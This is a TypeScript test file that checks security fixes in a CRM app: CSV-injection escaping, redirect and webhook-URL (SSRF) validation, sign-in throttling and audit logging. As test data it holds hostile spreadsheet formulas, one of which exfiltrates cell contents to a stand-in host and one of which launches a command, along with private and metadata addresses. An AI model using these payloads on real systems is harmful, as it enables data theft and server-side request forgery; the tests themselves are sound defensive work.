import { beforeEach, describe, expect, it, vi } from "vitest";
import { createApiKey } from "@/lib/api-keys/manage";
import { signInWithPassword } from "@/lib/auth/credentials";
import { hashPassword } from "@/lib/auth/password";
import {
  ACCOUNT_FREE_FAILURES,
  ACCOUNT_MAX_DELAY_S,
  PAIR_LIMIT,
  SignInThrottledError,
  secondsUntilAllowed,
  throttleKeys,
} from "@/lib/auth/throttle";
import { requestSource, SOCKET_HEADERS, trustedProxies } from "@/lib/trusted-proxy";
import { bulkDeleteFromListEndpoint } from "@/lib/api/dialects/talkdesk";
import { destroyRecordEndpoint } from "@/lib/api/dialects/zeeg";
import { encryptSecret } from "@/lib/api-keys/secrets";
import { db } from "@/lib/db/client";
import { EXPORT_RUNNING_MESSAGE } from "@/lib/export/running";
import { MAX_BULK_IDS } from "@/lib/records/schemas";
import { softDeleteRecords } from "@/lib/trash/delete";
import { isPrivateAddress, webhookUrlProblem } from "@/lib/webhooks/address";
import { DEFAULT_AFTER_SIGN_IN, safeCallbackPath, safeRedirect } from "@/lib/universal/callback-url";
import { withTestDatabase } from "@/test/db";
import { makeRecord, makeRecords, makeWorkspace, NOW, type TestWorkspace } from "@/test/fixtures";
import { REDIRECT_SHAPES } from "@/test/hostile-urls";

// Issue 26's findings that live in the domain (the second hardening round), each proved through
// the door that was probed. Only the session is mocked (what next-auth decodes from the cookie).
const session = vi.hoisted(() => ({ current: null as null | { userId: string; workspaceId: string } }));
vi.mock("@/lib/auth/session-token", () => ({ readSessionToken: async () => session.current }));

const { revealWebhookSecretAction, sendDigestNowAction } = await import("@/lib/actions/webhooks");
const { GET: recordsExport } = await import("@/app/api/app/records/export/route");
const { GET: trashExport } = await import("@/app/api/app/trash/export/route");
const { GET: auditExport } = await import("@/app/api/app/audit/export/route");

withTestDatabase();
beforeEach(() => {
  session.current = null;
});

const signInAs = (ws: TestWorkspace, who: keyof TestWorkspace["actors"]) => {
  session.current = { userId: ws.actors[who].userId, workspaceId: ws.id };
};

async function bearer(ws: TestWorkspace, who: keyof TestWorkspace["actors"]) {
  return (await createApiKey(ws.actors[who], { name: "probe" }, NOW)).apiSecret;
}

describe("#1 bulk delete by phone number: the cap counts records, not identifiers", () => {
  const talkdeskBulk = async (secret: string, body: unknown) =>
    bulkDeleteFromListEndpoint.handler(
      new Request("http://localhost/record-lists/leads/records/bulk", {
        method: "DELETE",
        headers: { authorization: `Bearer ${secret}`, "content-type": "application/json" },
        body: JSON.stringify(body),
      }),
      { params: Promise.resolve({ recordListId: "leads" }) },
    );

  it(`#1 two phone numbers naming 650 leads each (1,300 > ${MAX_BULK_IDS}) are refused with the dialect's limit error; nothing changes`, async () => {
    const ws = await makeWorkspace();
    await makeRecords(ws, 650, { phoneNumber: "+15550100001" });
    await makeRecords(ws, 650, { phoneNumber: "+15550100002" });
    const response = await talkdeskBulk(await bearer(ws, "member"), [
      { phone_number: "+1 (555) 010-0001" },
      { phone_number: "+15550100002" },
    ]);
    expect(response.status).toBe(400);
    expect(await response.json()).toMatchObject({
      code: "BAD_REQUEST",
      description: expect.stringMatching(/At most 1000 records per call/),
    });
    expect(await db().record.count({ where: { deletedAt: { not: null } } })).toBe(0);
    expect(await db().auditLog.count({ where: { action: "records.delete" } })).toBe(0);
  });

  it("#1 under the cap, the answer lists every record it deleted in _embedded.deleted_records", async () => {
    const ws = await makeWorkspace();
    const named = await makeRecords(ws, 850, { phoneNumber: "+15550100003" });
    const response = await talkdeskBulk(await bearer(ws, "member"), [{ phone_number: "+15550100003" }]);
    expect(response.status).toBe(200);
    const body = (await response.json()) as {
      total_deleted: number;
      _embedded: { deleted_records: { id: string; _links: { self: { href: string } } }[] };
    };
    expect(body.total_deleted).toBe(850);
    expect(body._embedded.deleted_records.map((r) => r.id).sort()).toEqual(named.map((r) => r.id).sort());
    expect(body._embedded.deleted_records[0]!._links.self.href).toMatch(/^\/record-lists\/leads\/records\//);
  });
});

describe("#2 CSV exports neutralise formulas (OWASP CSV injection)", () => {
  const FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTAB=1",
    "\rCR=1",
  ];
  const cells = (csv: string) => csv.split(/\r?\n/).join("\n");

  it("#2 records, trash (all and a selection) and audit exports prefix every formula-looking cell with '; the stored value is as typed", async () => {
    const ws = await makeWorkspace();
    const live = await Promise.all(
      FORMULAS.map((name) => makeRecord(ws, { name, attributes: { status: name, "=evil": "x" } })),
    );
    const trashed = await Promise.all(FORMULAS.map((name) => makeRecord(ws, { name, attributes: { status: name } })));
    await softDeleteRecords(ws.actors.admin, { ids: trashed.map((r) => r.id) }, NOW);
    signInAs(ws, "admin");
    const exports = {
      records: await (await recordsExport(new Request("http://localhost/api/app/records/export?entity=leads"))).text(),
      trash: await (await trashExport(new Request("http://localhost/api/app/trash/export?scope=all"))).text(),
      selection: await (
        await trashExport(
          new Request(`http://localhost/api/app/trash/export?ids=${trashed.map((r) => r.id).join(",")}`),
        )
      ).text(),
      audit: await (await auditExport(new Request("http://localhost/api/app/audit/export"))).text(),
    };
    for (const [name, csv] of Object.entries(exports)) {
      const text = cells(csv);
      for (const formula of FORMULAS.slice(0, 4)) {
        const quoted = `'${formula}`.includes('"') ? `"'${formula.replaceAll('"', '""')}"` : `'${formula}`;
        // The audit CSV too: one row per record, its name in a cell of its own.
        expect(text, `${name}: ${formula}`).toContain(quoted);
      }
      // No cell of any export starts with a formula character.
      expect(text, name).not.toMatch(/(^|,|\n)"?[=+\-@\t\r]/);
    }
    expect(exports.records).toContain("'=evil");
    expect((await db().record.findUniqueOrThrow({ where: { id: live[0]!.id } })).name).toBe(FORMULAS[0]);
  });
});

describe("#4 sign-in callbacks are normalised like the browser, then only single-slash same-origin paths pass", () => {
  it.each(REDIRECT_SHAPES)("#4 %s falls back to the records page", (shape) => {
    expect(safeCallbackPath(shape)).toBe(DEFAULT_AFTER_SIGN_IN);
    expect(safeRedirect(shape, "https://app.example")).toBe(`https://app.example${DEFAULT_AFTER_SIGN_IN}`);
    expect(safeRedirect(`https://app.example${shape}`, "https://app.example")).toBe(
      `https://app.example${DEFAULT_AFTER_SIGN_IN}`,
    );
  });

  it("#4 ordinary paths still pass, dot segments resolved", () => {
    expect(safeCallbackPath("/records/../trash")).toBe("/trash");
    expect(safeCallbackPath("/records/leads?q=a%2Fb#top")).toBe("/records/leads?q=a%2Fb#top");
  });
});

describe("#8 the webhook URL check at save refuses what the connect check refuses", () => {
  it.each([
    "http://localhost./digest",
    "http://localhost../digest",
    "http://[::127.0.0.1]/digest",
    "http://[::ffff:0:7f00:1]/digest",
    "http://[2002:7f00:1::]/digest",
    "http://[::ffff:127.0.0.1]/digest",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data",
    "http://[2002:a00:1::1]/digest",
  ])("#8 %s is refused at save", (url) => {
    expect(webhookUrlProblem(url, false)).toMatch(/not on the public internet/);
  });

  it("#8 the connect-time check agrees on the same addresses, and public ones pass both", () => {
    for (const address of ["::7f00:1", "::ffff:0:7f00:1", "2002:7f00:1::", "::ffff:7f00:1", "127.0.0.1"])
      expect(isPrivateAddress(address), address).toBe(true);
    for (const address of ["93.184.216.34", "2606:2800:220:1:248:1893:25c8:1946", "2002:5db8:d822::1"])
      expect(isPrivateAddress(address), address).toBe(false);
    expect(webhookUrlProblem("https://hooks.example.com/trash", false)).toBeNull();
    expect(webhookUrlProblem("http://[2606:2800:220:1:248:1893:25c8:1946]/x", false)).toBeNull();
  });
});

describe("#6 every permanent delete, secret shown and outbound send is audited with its actor and key", () => {
  it("#6 a permanent delete through /v2/crm names the API key in its records.destroy entry", async () => {
    const ws = await makeWorkspace();
    const record = await makeRecord(ws);
    const key = await createApiKey(ws.actors.admin, { name: "erasure" }, NOW);
    const response = await destroyRecordEndpoint.handler(
      new Request(`http://localhost/v2/crm/leads/${record.id}`, {
        method: "DELETE",
        headers: { authorization: `Bearer ${key.apiSecret}` },
      }),
      { params: Promise.resolve({ objectSlug: "leads", recordId: record.id }) },
    );
    expect(response.status).toBeLessThan(300);
    const entries = await db().auditLog.findMany({ where: { action: "records.destroy" } });
    expect(entries).toHaveLength(1);
    expect(entries[0]).toMatchObject({ door: "API", apiKeyId: key.id, actorId: ws.actors.admin.userId });
  });

  it("#6 revealing the webhook secret and “Send digest now” each write an entry with the admin", async () => {
    const ws = await makeWorkspace();
    await db().webhook.create({
      data: { workspaceId: ws.id, url: "http://127.0.0.1:9/digest", secretCiphertext: encryptSecret("whsec_probe") },
    });
    signInAs(ws, "admin");
    expect(await revealWebhookSecretAction({})).toEqual({ ok: true, data: { secret: "whsec_probe" } });
    const sent = await sendDigestNowAction({});
    expect(sent.ok).toBe(true);
    const entries = await db().auditLog.findMany({ where: { action: { startsWith: "webhook." } } });
    expect(entries.map((e) => [e.action, e.actorId, e.door])).toEqual(
      expect.arrayContaining([
        ["webhook.reveal_secret", ws.actors.admin.userId, "UI"],
        ["webhook.send_now", ws.actors.admin.userId, "UI"],
      ]),
    );
  });
});

describe("#3 the sign-in brake: addresses only from trusted proxies, no switch that locks others out", () => {
  const at = (ms: number) => new Date(NOW.getTime() + ms);
  const headers = (h: Record<string, string>) => new Headers(h);

  it("#3 without TRUSTED_PROXIES the address is the socket's: X-Forwarded-For, X-Real-IP and a forged stamp are ignored", () => {
    const none = trustedProxies("");
    const source = requestSource(
      headers({
        [SOCKET_HEADERS.address]: "::ffff:203.0.113.7",
        "x-forwarded-for": "10.9.9.9",
        "x-real-ip": "10.8.8.8",
      }),
      none,
    );
    expect(source).toMatchObject({ address: "203.0.113.7", viaTrustedProxy: false, protocol: "http" });
    // Next.js leaves no socket address of its own: with no stamp there is no address at all.
    expect(requestSource(headers({ "x-forwarded-for": "10.9.9.9" }), none).address).toBeNull();
  });

  it("#3 behind a trusted proxy the nearest untrusted hop is the client; hops the client wrote in front do not count", () => {
    const trusted = trustedProxies("10.0.0.0/8, 192.0.2.1");
    const source = requestSource(
      headers({
        [SOCKET_HEADERS.address]: "10.0.0.5",
        "x-forwarded-for": "6.6.6.6, 198.51.100.23, 192.0.2.1",
        "x-forwarded-proto": "https",
        "x-forwarded-host": "crm.example",
      }),
      trusted,
    );
    expect(source).toEqual({
      address: "198.51.100.23",
      protocol: "https",
      host: "crm.example",
      viaTrustedProxy: true,
    });
    expect(() => trustedProxies("10.0.0.0/8, proxy.internal")).toThrow(/TRUSTED_PROXIES/);
  });

  async function account() {
    const ws = await makeWorkspace();
    await db().user.update({
      where: { id: ws.actors.admin.userId },
      data: { passwordHash: await hashPassword("s3cret-pass-1") },
    });
    return ws;
  }
  const attempt = (email: string, password: string, address: string, time: Date) =>
    signInWithPassword(email, password, address, time).then(
      (user) => (user ? "ok" : "wrong"),
      (e: unknown) => (e instanceof SignInThrottledError ? `wait ${e.retryAfterSeconds}` : "error"),
    );

  it("#3 the attack: 25 guesses from 25 addresses — past 10 each waits longer, and the account's workspace is told", async () => {
    const ws = await account();
    const email = ws.actors.admin.email;
    const answers: string[] = [];
    for (let i = 0; i < 25; i++) answers.push(await attempt(email, `guess-${i}`, `198.51.100.${i + 1}`, at(i * 100)));
    expect(answers.slice(0, ACCOUNT_FREE_FAILURES)).toEqual(Array(ACCOUNT_FREE_FAILURES).fill("wrong"));
    expect(answers.slice(ACCOUNT_FREE_FAILURES).every((a) => a.startsWith("wait "))).toBe(true);
    // Patient guessing: each further failure doubles the delay, up to 5 minutes.
    let time = 10_000;
    const waits: number[] = [];
    for (let i = 0; i < 10; i++) {
      const wait = await secondsUntilAllowed(throttleKeys(email, "203.0.113.1"), at(time));
      waits.push(wait);
      time += wait * 1000;
      expect(await attempt(email, `slow-${i}`, `203.0.113.${i + 1}`, at(time))).toBe("wrong");
    }
    expect(waits.slice(1).every((w, i) => w >= waits[i]!)).toBe(true);
    expect(Math.max(...waits)).toBe(ACCOUNT_MAX_DELAY_S);
    const told = await db().auditLog.findMany({ where: { workspaceId: ws.id, action: "auth.sign_in_brake" } });
    expect(told.map((e) => (e.details as { brake: string }).brake)).toContain("account");
  });

  it("#3 the lock-out: a victim's address named by someone else's failures does not lock the owner out, and after a delay the owner signs in", async () => {
    const ws = await account();
    const email = ws.actors.admin.email;
    // The attacker fails 5 times from their own address: only that address waits for this account.
    for (let i = 0; i < PAIR_LIMIT; i++) await attempt(email, `guess-${i}`, "198.51.100.66", at(i));
    expect(await attempt(email, "s3cret-pass-1", "198.51.100.66", at(10))).toMatch(/^wait /);
    expect(await attempt(email, "s3cret-pass-1", "203.0.113.10", at(20))).toBe("ok");
    const told = await db().auditLog.findMany({ where: { workspaceId: ws.id, action: "auth.sign_in_brake" } });
    expect(told.map((e) => (e.details as { brake: string; address: string }).address)).toEqual(["198.51.100.66"]);
    // Even past the account-wide threshold the owner is delayed, never locked: at most 5 minutes.
    for (let i = 0; i < 40; i++) await attempt(email, `spray-${i}`, `198.51.100.${i + 100}`, at(1000 + i));
    const wait = await secondsUntilAllowed(throttleKeys(email, "203.0.113.10"), at(2000));
    expect(wait).toBeGreaterThan(0);
    expect(wait).toBeLessThanOrEqual(ACCOUNT_MAX_DELAY_S);
    expect(await attempt(email, "s3cret-pass-1", "203.0.113.10", at(2000 + wait * 1000))).toBe("ok");
  });
});

describe("#8 one running export per workspace", () => {
  it("#8 a second export while one streams is refused with 409 “export already running”; another workspace is not; it frees when the first ends", async () => {
    const ws = await makeWorkspace();
    const other = await makeWorkspace("Other");
    await makeRecords(ws, 600);
    signInAs(ws, "admin");
    const first = await recordsExport(new Request("http://localhost/api/app/records/export?entity=leads"));
    expect(first.status).toBe(200);
    for (const route of [recordsExport, trashExport, auditExport]) {
      const second = await route(new Request("http://localhost/api/app/x/export"));
      expect(second.status).toBe(409);
      expect(await second.json()).toEqual({ error: { code: "CONFLICT", message: EXPORT_RUNNING_MESSAGE } });
    }
    signInAs(other, "admin");
    const elsewhere = await auditExport(new Request("http://localhost/api/app/audit/export"));
    expect(elsewhere.status).toBe(200);
    await elsewhere.text();
    signInAs(ws, "admin");
    expect((await first.text()).split("\n").length).toBeGreaterThan(600);
    await new Promise((r) => setTimeout(r, 50));
    const third = await auditExport(new Request("http://localhost/api/app/audit/export"));
    expect(third.status).toBe(200);
    await third.text();
  });
});
